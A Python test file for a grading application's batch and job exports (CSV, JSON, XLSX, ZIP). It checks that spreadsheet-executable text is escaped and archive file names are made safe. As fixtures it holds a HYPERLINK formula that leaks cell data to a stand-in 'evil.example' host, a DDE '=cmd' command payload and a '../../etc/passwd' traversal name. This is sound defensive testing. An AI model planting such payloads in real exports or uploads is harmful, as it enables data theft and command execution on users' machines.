"""Exports of a batch and a job over the API, parsed back: the CSV gradebook, the JSON
of everything, the XLSX workbook and the ZIP; text that a spreadsheet would run is
neutralised and archive names are safe. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import PurePosixPath

import pytest

from grading_app.db import unit_of_work
from grading_app.reports.exports import ExportFormat, export_chunks
from grading_app.reports.prices import PriceTable
from grading_app.reports.scope import batch_scope
from tests.factories import make_batch, make_outcome
from tests.reports.helpers import CLAUDE, GPT, MYSTERY, add_job, grade_all
from tests.reports.xlsx import read_workbook

HYPERLINK = '=HYPERLINK("evil.example?leak="&A1,"Click")'
TRAVERSAL = "../../etc/passwd.docx"
TABBED = "\tTabbed\r.txt"  # control characters in a name
DOCUMENTS = [HYPERLINK + ".txt", TRAVERSAL, "essay.txt", "essay.txt", "12345_ada.txt", TABBED]
# What each model says, by document: a score out of 100 and feedback.
GPT_GRADES = {
    HYPERLINK + ".txt": (80, "@SUM(1+1) looks like a formula"),
    TRAVERSAL: (70, "Fine."),
    "essay.txt": (60, "-2 for spelling"),
    "12345_ada.txt": (90, "+1 for effort"),
    TABBED: (50, "=1+1"),
}
CLAUDE_GRADES = {
    name: (score - 10, "Claude: " + text) for name, (score, text) in GPT_GRADES.items()
}


def _graded(sessions) -> tuple[str, str, str]:
    """A batch: a job comparing GPT and Claude on DOCUMENTS, and a one-model job."""
    with unit_of_work(sessions) as session:
        batch = make_batch(session, name="Hostile names")
        compared = add_job(
            session, batch=batch, name="Compared", targets=[GPT, CLAUDE], documents=DOCUMENTS
        )
        single = add_job(
            session, batch=batch, name="Single", targets=[MYSTERY], documents=["x.txt"]
        )
        batch_id = batch.id

    def decide(item):
        if item.model == MYSTERY.model:
            return make_outcome(score=5, max_score=10, feedback="=cmd|' /C calc'!A0")
        score, feedback = (GPT_GRADES if item.model == GPT.model else CLAUDE_GRADES)[item.document]
        return make_outcome(score=score, feedback=feedback)

    grade_all(sessions, decide)
    return batch_id, compared, single


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def test_csv_gradebook_of_a_batch_neutralises_formulas_and_keeps_numbers(client, sessions):
    batch_id, _, _ = _graded(sessions)

    response = client.get(f"/api/batches/{batch_id}/export", params={"format": "csv"})

    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="batch-{batch_id}.csv"' in response.headers["content-disposition"]
    rows = _rows(response)
    header = list(rows[0])
    assert header[:5] == ["student_id", "document", "job", "status", "error"]
    assert header[5:9] == [
        "openai:gpt-4o score",
        "openai:gpt-4o max_score",
        "openai:gpt-4o Argument",
        "openai:gpt-4o feedback",
    ]
    assert header[-7:] == [
        "spread_percentage_points",
        "final_score",
        "final_max_score",
        "review",
        "review_comment",
        "needs_review",
        "review_reasons",
    ]
    assert len(rows) == len(DOCUMENTS) + 1  # every document of both jobs
    by_name = {}
    for row in rows:
        by_name.setdefault(row["document"], row)
    # Nothing a spreadsheet would run: each dangerous text starts with an apostrophe.
    hyperlink = by_name["'" + HYPERLINK + ".txt"]
    assert hyperlink["student_id"] == "'" + HYPERLINK
    assert hyperlink["openai:gpt-4o feedback"] == "'@SUM(1+1) looks like a formula"
    assert by_name["essay.txt"]["openai:gpt-4o feedback"] == "'-2 for spelling"
    assert by_name["12345_ada.txt"]["openai:gpt-4o feedback"] == "'+1 for effort"
    assert by_name["'" + TABBED]["openai:gpt-4o feedback"] == "'=1+1"
    assert by_name["'" + TABBED]["claude:claude-sonnet-4 feedback"] == "Claude: =1+1"
    assert by_name["x.txt"]["openai:mystery-model feedback"] == "'=cmd|' /C calc'!A0"
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
    # Numbers stay numbers: scores, maxima, criteria and spread are written bare.
    assert (
        hyperlink["openai:gpt-4o score"] == "80" and hyperlink["openai:gpt-4o max_score"] == "100"
    )
    assert hyperlink["openai:gpt-4o Argument"] == "40"
    assert hyperlink["claude:claude-sonnet-4 score"] == "70"
    assert float(hyperlink["spread_percentage_points"]) == 10.0
    assert by_name["x.txt"]["job"] == "Single" and by_name["x.txt"]["openai:gpt-4o score"] == ""
    assert by_name["x.txt"]["spread_percentage_points"] == ""
    assert by_name["essay.txt"]["student_id"] == "essay"


def test_student_identifier_from_a_pattern(client, sessions):
    batch_id, compared, _ = _graded(sessions)

    response = client.get(
        f"/api/jobs/{compared}/export", params={"format": "csv", "id_pattern": r"^(\d+)_"}
    )

    ids = {row["document"]: row["student_id"] for row in _rows(response)}
    assert ids["12345_ada.txt"] == "12345"
    assert ids["essay.txt"] == ""  # no match: no identifier rather than a wrong one
    # A path inside an uploaded .zip is not part of the name the pattern sees.
    assert ids[TRAVERSAL] == ""


def test_results_csv_is_the_job_gradebook(client, sessions):
    _, compared, _ = _graded(sessions)

    legacy_path = client.get(f"/api/jobs/{compared}/results.csv")
    export = client.get(f"/api/jobs/{compared}/export")  # csv by default

    assert legacy_path.status_code == 200 and legacy_path.text == export.text
    assert "job" not in _rows(export)[0]  # one job: no job column


def test_json_export_has_everything(client, sessions):
    batch_id, compared, single = _graded(sessions)

    response = client.get(f"/api/batches/{batch_id}/export", params={"format": "json"})

    assert response.status_code == 200 and response.headers["content-type"] == "application/json"
    body = json.loads(response.text)
    assert body["scope"] == "batch" and body["batch"]["batch_name"] == "Hostile names"
    assert body["exported_at"].endswith("Z")
    assert [job["id"] for job in body["jobs"]] == [compared, single]
    first = body["jobs"][0]
    assert first["models"] == [GPT.label, CLAUDE.label] and first["prompt"]
    assert len(first["documents"]) == len(DOCUMENTS)
    document = next(d for d in first["documents"] if d["original_filename"] == "12345_ada.txt")
    assert document["student_id"] == "12345_ada" and document["status"] == "completed"
    grades = {(g["provider"], g["model"]): g for g in document["grades"]}
    gpt = grades[("openai", "gpt-4o")]
    assert (gpt["score"], gpt["max_score"], gpt["percent"]) == (90, 100, 90)
    assert gpt["feedback"] == "+1 for effort"  # JSON is data: kept exactly as said
    assert gpt["criteria"][0]["name"] == "Argument" and gpt["criteria"][0]["score"] == 45
    assert (gpt["prompt_tokens"], gpt["completion_tokens"], gpt["latency_ms"]) == (100, 50, 12)
    assert gpt["legacy"] is False and gpt["graded_at"].endswith("Z")


def test_xlsx_has_a_summary_and_grades_with_text_as_text(client, sessions):
    batch_id, _, _ = _graded(sessions)

    response = client.get(f"/api/batches/{batch_id}/export", params={"format": "xlsx"})

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheets = read_workbook(response.content)
    assert list(sheets) == ["Summary", "Grades"]
    summary = {row[0]: row[1] if len(row) > 1 else None for row in sheets["Summary"]}
    assert summary["Documents"] == len(DOCUMENTS) + 1 and summary["Graded documents"] == 7
    assert "Model openai:gpt-4o" in summary and summary["Mean score (%)"] is not None
    header, *rows = sheets["Grades"]
    assert header[:3] == ["student_id", "document", "job"]
    assert len(rows) == len(DOCUMENTS) + 1
    score = header.index("openai:gpt-4o score")
    feedback = header.index("openai:gpt-4o feedback")
    by_name = {row[1]: row for row in rows}
    hyperlink = by_name["'" + HYPERLINK + ".txt"]
    assert hyperlink[score] == 80.0  # a number cell, not text
    assert hyperlink[feedback] == "'@SUM(1+1) looks like a formula"
    for row in [header, *rows]:
        for value in row:
            assert not isinstance(value, tuple), value  # no formula anywhere
            if isinstance(value, str):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_zip_has_the_gradebook_a_summary_and_safely_named_feedback(client, sessions):
    batch_id, _, _ = _graded(sessions)

    response = client.get(f"/api/batches/{batch_id}/export", params={"format": "zip"})

    assert response.status_code == 200 and response.headers["content-type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert archive.testzip() is None
    names = archive.namelist()
    assert names[:2] == ["gradebook.csv", "summary.json"]
    feedback = names[2:]
    assert len(feedback) == len(DOCUMENTS) + 1 and len(set(feedback)) == len(feedback)
    for name in names:
        path = PurePosixPath(name)
        assert not path.is_absolute() and ".." not in path.parts and "\\" not in name
        assert all(ch.isprintable() for ch in name), name
    assert "feedback/passwd.txt" in feedback  # ../../etc/passwd.docx, its base name only
    assert {"feedback/essay.txt", "feedback/essay (2).txt"} <= set(feedback)
    gradebook = list(csv.DictReader(io.StringIO(archive.read("gradebook.csv").decode())))
    assert len(gradebook) == len(DOCUMENTS) + 1
    summary = json.loads(archive.read("summary.json"))
    assert summary["counts"]["documents"]["completed"] == 7
    text = archive.read("feedback/12345_ada.txt").decode()
    assert "Document: 12345_ada.txt" in text and "+1 for effort" in text
    assert "feedback/_Tabbed_.txt" in feedback  # control characters replaced
    assert "== openai:gpt-4o ==" in text and "Score: 90 / 100" in text


@pytest.mark.parametrize("scope", ["batches", "jobs"])
def test_bad_export_requests_are_refused_with_a_reason(client, sessions, scope):
    batch_id, compared, _ = _graded(sessions)
    scope_id = batch_id if scope == "batches" else compared
    url = f"/api/{scope}/{scope_id}/export"

    unknown = client.get(url, params={"format": "pdf"})
    broken = client.get(url, params={"id_pattern": "(unclosed"})
    no_group = client.get(url, params={"id_pattern": r"\d+"})
    missing = client.get(f"/api/{scope}/nope/export")

    assert unknown.status_code == 422
    assert all(name in unknown.json()["detail"] for name in ("csv", "json", "xlsx", "zip"))
    assert broken.status_code == 400 and "not a regular expression" in broken.json()["detail"]
    assert no_group.status_code == 400 and "exactly one group" in no_group.json()["detail"]
    assert missing.status_code == 404 and "nope" in missing.json()["detail"]


def test_exports_stream_in_chunks(sessions):
    """Several hundred documents leave in many chunks, not one body built in memory.
    (An .xlsx is built in constant_memory mode on disk, then streamed from there.)"""
    with unit_of_work(sessions) as session:
        batch = make_batch(session)
        add_job(
            session,
            batch=batch,
            name="Large",
            targets=[GPT],
            documents=[f"student_{i:04}.txt" for i in range(450)],
        )
        batch_id = batch.id
    grade_all(sessions, lambda _: make_outcome())
    for export_format in (ExportFormat.CSV, ExportFormat.JSON, ExportFormat.ZIP):
        with unit_of_work(sessions, read_only=True) as session:
            scope = batch_scope(session, batch_id=batch_id)
            chunks = export_chunks(
                session, scope, export_format=export_format, prices=PriceTable.of({})
            )
            assert len([c for c in chunks if c]) >= 3, export_format
